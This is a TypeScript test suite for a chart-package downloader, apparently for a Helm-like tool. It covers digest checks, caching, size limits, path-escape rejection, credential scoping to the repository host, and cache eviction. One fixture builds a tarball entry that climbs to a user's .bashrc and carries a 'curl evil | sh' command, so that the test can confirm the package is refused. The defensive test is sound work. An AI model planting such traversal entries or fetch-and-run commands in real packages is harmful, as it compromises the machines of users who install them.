// Downloading chart packages from the fixture repository and from scripted servers: digest
// verification, the content-addressed cache, size limits, escaping paths, credentials' reach.
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { mkdtemp, readdir, readFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { ChartCache } from '../../../src/source/chart-cache.ts';
import { downloadChart } from '../../../src/source/chart-download.ts';
import { fetchIndex } from '../../../src/source/index-fetch.ts';
import { parseIndex } from '../../../src/source/index-parse.ts';
import { useHttpsChartServer } from '../../support/chart-server.ts';
import { FIXTURES_REPO } from '../../support/paths.ts';
import { body, startScriptedServer, stream, type ScriptedServer } from '../../support/scripted-server.ts';
import { rejectsWithReason } from '../../support/reason.ts';
import { chartTgz } from '../../support/tarball.ts';

const auth = { username: 'capstan', password: 'fixture-password' };
const timeoutMs = 5_000;

async function tempCache(maxBytes?: number): Promise<ChartCache> {
  return new ChartCache({ dir: await mkdtemp(join(tmpdir(), 'capstan-charts-')), ...(maxBytes !== undefined ? { maxBytes } : {}) });
}


const sha256 = (b: Buffer) => createHash('sha256').update(b).digest('hex');

describe('downloading a chart from the HTTPS repository with basic auth', () => {
  const repo = useHttpsChartServer(auth);

  it('downloads the version the index names, verifies its digest and serves it from the cache afterwards', async () => {
    const fetched = await fetchIndex({ url: repo.server.url, timeoutMs, credentials: auth, tls: { ca: repo.tls.ca } });
    assert.equal(fetched.unchanged, false);
    const version = parseIndex(fetched.bytes).index.charts.get('app')?.find((v) => v.version === '2.0.0');
    assert.ok(version?.digest);
    const cache = await tempCache();
    const options = { repositoryUrl: repo.server.url, chartUrl: version.urls[0] ?? '', digest: version.digest, credentials: auth, tls: { ca: repo.tls.ca }, timeoutMs, cache };
    const first = await downloadChart(options);
    assert.equal(first.cached, false);
    assert.equal(first.digest, `sha256:${version.digest}`);
    assert.deepEqual(await readFile(first.path), await readFile(join(FIXTURES_REPO, 'app-2.0.0.tgz')));
    const requests = repo.server.requests.length;
    const second = await downloadChart(options);
    assert.equal(second.cached, true);
    assert.equal(second.path, first.path);
    assert.equal(repo.server.requests.length, requests, 'no request for a cached digest');
  });
});

describe('downloading a chart from a misbehaving server', () => {
  let server: ScriptedServer;
  let other: ScriptedServer;
  before(async () => {
    server = await startScriptedServer();
    other = await startScriptedServer({ hostname: 'localhost' });
  });
  after(async () => {
    await server.close();
    await other.close();
  });

  it('refuses a package whose digest differs from the index and caches nothing', async () => {
    const pkg = chartTgz('app', '1.0.0');
    server.route('/repo/app-1.0.0.tgz', body(pkg));
    const cache = await tempCache();
    const err = await rejectsWithReason(downloadChart({ repositoryUrl: `${server.url}/repo`, chartUrl: 'app-1.0.0.tgz', digest: 'f'.repeat(64), timeoutMs, cache }), 'ChartDigestMismatch');
    assert.match(err.message, new RegExp(`has digest sha256:${sha256(pkg)} but the repository index says sha256:f{64}`));
    assert.deepEqual(await readdir(cache.dir).catch(() => []), []);
  });

  it('refuses a package over the limit, cutting the download short', async () => {
    server.route('/repo/huge-1.0.0.tgz', stream(64 * 1024 * 1024));
    const cache = await tempCache();
    const err = await rejectsWithReason(downloadChart({ repositoryUrl: `${server.url}/repo`, chartUrl: 'huge-1.0.0.tgz', timeoutMs, maxBytes: 512 * 1024, cache }), 'SizeLimitExceeded');
    assert.match(err.message, /larger than the limit of 512 KiB/);
    assert.equal(await cache.size(), 0);
  });

  it('refuses a package with a path escaping its root and caches nothing', async () => {
    const pkg = chartTgz('app', '1.0.0', [{ name: 'app/../../../home/user/.bashrc', content: 'curl evil | sh' }]);
    server.route('/repo/evil-1.0.0.tgz', body(pkg));
    const cache = await tempCache();
    const err = await rejectsWithReason(downloadChart({ repositoryUrl: `${server.url}/repo`, chartUrl: 'evil-1.0.0.tgz', digest: sha256(pkg), timeoutMs, cache }), 'ChartPackageInvalid');
    assert.match(err.message, /climbs out/);
    assert.equal(await cache.size(), 0);
  });

  it('sends credentials to the repository host but not to an absolute chart URL on another host', async () => {
    const pkg = chartTgz('app', '1.0.0');
    server.route('/repo/app-1.0.0.tgz', body(pkg));
    other.route('/cdn/app-1.0.0.tgz', body(pkg));
    await downloadChart({ repositoryUrl: `${server.url}/repo`, chartUrl: 'app-1.0.0.tgz', credentials: auth, timeoutMs, cache: await tempCache() });
    assert.match(server.exchanges.at(-1)?.headers.authorization ?? '', /^Basic /);
    await downloadChart({ repositoryUrl: `${server.url}/repo`, chartUrl: `${other.url}/cdn/app-1.0.0.tgz`, credentials: auth, timeoutMs, cache: await tempCache() });
    assert.equal(other.exchanges.at(-1)?.headers.authorization, undefined);
    await downloadChart({ repositoryUrl: `${server.url}/repo`, chartUrl: `${other.url}/cdn/app-1.0.0.tgz`, credentials: auth, passCredentials: true, timeoutMs, cache: await tempCache() });
    assert.match(other.exchanges.at(-1)?.headers.authorization ?? '', /^Basic /);
  });

  it('keeps the cache within its byte bound, evicting the least recently used package', async () => {
    const packages = ['a', 'b', 'c'].map((name) => chartTgz(name, '1.0.0', [{ name: `${name}/filler`, content: String(Math.random()).repeat(2000) }]));
    const biggest = Math.max(...packages.map((p) => p.length));
    const cache = await tempCache(biggest * 2 + 10);
    const paths: string[] = [];
    for (const [i, pkg] of packages.entries()) {
      server.route(`/lru/p${i}.tgz`, body(pkg));
      paths.push((await downloadChart({ repositoryUrl: `${server.url}/lru`, chartUrl: `p${i}.tgz`, timeoutMs, cache })).path);
      await new Promise((resolve) => setTimeout(resolve, 20));
    }
    const left = await readdir(cache.dir);
    assert.deepEqual(left.sort(), [sha256(packages[1] ?? Buffer.alloc(0)), sha256(packages[2] ?? Buffer.alloc(0))].map((h) => `${h}.tgz`).sort());
    assert.ok(await cache.size() <= biggest * 2 + 10);
  });
});
